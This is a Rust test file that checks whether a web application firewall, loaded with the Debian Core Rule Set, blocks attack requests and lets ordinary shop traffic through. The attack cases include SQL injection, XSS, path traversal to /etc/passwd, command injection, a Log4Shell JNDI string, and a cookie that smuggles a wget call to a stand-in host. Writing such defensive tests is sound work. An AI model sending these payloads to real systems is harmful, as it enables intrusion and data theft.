//! The Core Rule Set 3.3 as Debian ships it (`modsecurity-crs`): it loads, stops attacks and lets
//! innocents pass. Not played where the package is not installed.

use std::path::Path;
use std::sync::Arc;

use edgeproof_waf::seclang::parse_text;
use edgeproof_waf::{Collections, Connection, Moment, RequestLine, RuleSet, Transaction, Verdict};

const RULES: &str = "/usr/share/modsecurity-crs/rules";
const SETUP: &str = "/etc/modsecurity/crs/crs-setup.conf";

fn load() -> Option<Arc<RuleSet>> {
    if !Path::new(RULES).is_dir() || !Path::new(SETUP).is_file() {
        eprintln!("not played: modsecurity-crs is not installed");
        return None;
    }
    let text = format!(
        "SecRuleEngine On\nSecRequestBodyAccess On\n\
         SecRule REQUEST_HEADERS:Content-Type \"@beginsWith application/json\" \
         \"id:1,phase:1,pass,nolog,ctl:requestBodyProcessor=JSON\"\n\
         Include {SETUP}\nInclude {RULES}/*.conf\n"
    );
    let source = edgeproof_diagnostics::Source::new("entry.conf", text);
    let program =
        parse_text(&source, Path::new("/")).unwrap_or_else(|mistakes| panic!("{mistakes}"));
    let rules = RuleSet::from_program(program).unwrap_or_else(|mistakes| panic!("{mistakes}"));
    assert!(rules.rules().count() > 400);
    Some(Arc::new(rules))
}

/// The rules that fire, and whether the request was stopped.
fn play(
    rules: &Arc<RuleSet>,
    target: &str,
    headers: &[(&str, &str)],
    body: &str,
) -> (Vec<u64>, bool) {
    let ends =
        Connection { client: ([192, 0, 2, 7], 1).into(), server: ([192, 0, 2, 8], 80).into() };
    let store = Arc::new(Collections::default());
    let mut transaction =
        Transaction::new(rules, &store, ends, "an-id", Moment::utc(1_790_000_000));
    let method = if body.is_empty() { "GET" } else { "POST" };
    let line = format!("{method} {target} HTTP/1.1");
    let line = RequestLine {
        line: line.as_bytes(),
        method: Some(method.as_bytes()),
        target: Some(target.as_bytes()),
        version: Some(b"HTTP/1.1"),
    };
    let length = body.len().to_string();
    let usual = [
        ("Host", "shop.example"),
        ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
        ("Accept", "text/html,application/xhtml+xml"),
    ];
    let length = (!body.is_empty()).then_some(("Content-Length", length.as_str()));
    let own = |name: &str| headers.iter().any(|(one, _)| *one == name);
    let form = ("Content-Type", "application/x-www-form-urlencoded");
    let form = (!body.is_empty() && !own("Content-Type")).then_some(form);
    let all = usual.into_iter().filter(|(name, _)| !own(name)).chain(headers.iter().copied());
    let all = all.chain(length).chain(form);
    let mut verdict =
        transaction.request(line, all.map(|(name, value)| (name.as_bytes(), value.as_bytes())));
    if verdict == Verdict::Pass {
        transaction.request_body(body.as_bytes());
        verdict = transaction.request_end();
    }
    let fired = transaction.finish().matches.iter().map(|one| one.rule).collect();
    (fired, verdict != Verdict::Pass)
}

#[test]
fn attacks_are_stopped() {
    let Some(rules) = load() else { return };
    type Case<'a> = (u64, &'a str, &'a [(&'a str, &'a str)], &'a str);
    let cases: [Case<'_>; 13] = [
        (942_100, "/?id=1%27%20or%201=1--%20", &[], ""),
        (942_100, "/login", &[], "user=admin%27+union+select+password+from+users--+"),
        (941_100, "/?q=%3Cscript%3Ealert(1)%3C/script%3E", &[], ""),
        (941_160, "/", &[], "text=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"),
        (930_120, "/?file=../../../../etc/passwd", &[], ""),
        (930_100, "/download/..%2f..%2f..%2fsecret", &[], ""),
        (932_160, "/?cmd=%3Bcat%20/etc/passwd", &[], ""),
        (931_100, "/?page=http://192.0.2.1/shell.txt?", &[], ""),
        (933_100, "/", &[], "code=%3C%3Fphp+system(%24_GET%5B1%5D)%3B"),
        (932_130, "/?x=$%7Bjndi:ldap://a.example/a%7D", &[], ""),
        (913_100, "/", &[("User-Agent", "sqlmap/1.7")], ""),
        (
            942_100,
            "/api",
            &[("Content-Type", "application/json")],
            r#"{"id": "1' or '1'='1' -- "}"#,
        ),
        (932_150, "/", &[("Cookie", "a=;wget http://192.0.2.1/x")], ""),
    ];
    for (rule, target, headers, body) in cases {
        let (fired, stopped) = play(&rules, target, headers, body);
        assert!(fired.contains(&rule) && stopped, "{target} {body}: {rule} not in {fired:?}");
    }
}

#[test]
fn innocents_pass() {
    let Some(rules) = load() else { return };
    type Case<'a> = (&'a str, &'a [(&'a str, &'a str)], &'a str);
    let cases: [Case<'_>; 13] = [
        ("/", &[], ""),
        ("/shop/shoes?size=42&colour=dark%20red&sort=price", &[], ""),
        ("/search?q=how+to+select+a+good+union+plumber", &[], ""),
        ("/article/2024/05/a-script-for-success.html", &[], ""),
        ("/", &[("Cookie", "sid=0f9c2b7e1d; theme=dark; lang=de-DE")], ""),
        ("/contact", &[], "name=Jane+O%27Hara&message=It+is+5+o%27clock%2C+call+me."),
        ("/comment", &[], "text=Gr%C3%BC%C3%9Fe+aus+K%C3%B6ln%21&rating=5"),
        (
            "/api/cart",
            &[("Content-Type", "application/json")],
            r#"{"items":[{"id":7,"count":2}],"note":"ring twice"}"#,
        ),
        ("/login", &[], "user=jane%40shop.example&password=correct+horse+battery+staple"),
        ("/img/logo.svg?v=3.1.4", &[("Referer", "https://shop.example/about")], ""),
        ("/calendar?from=2024-01-01&to=2024-02-01", &[], ""),
        ("/page?title=Caf%C3%A9%20%E2%82%AC%205", &[], ""),
        ("/", &[("Accept-Language", "en-GB,en;q=0.5"), ("Accept-Encoding", "gzip, br")], ""),
    ];
    for (target, headers, body) in cases {
        let (fired, stopped) = play(&rules, target, headers, body);
        assert!(!stopped, "{target} {body}: {fired:?}");
    }
}
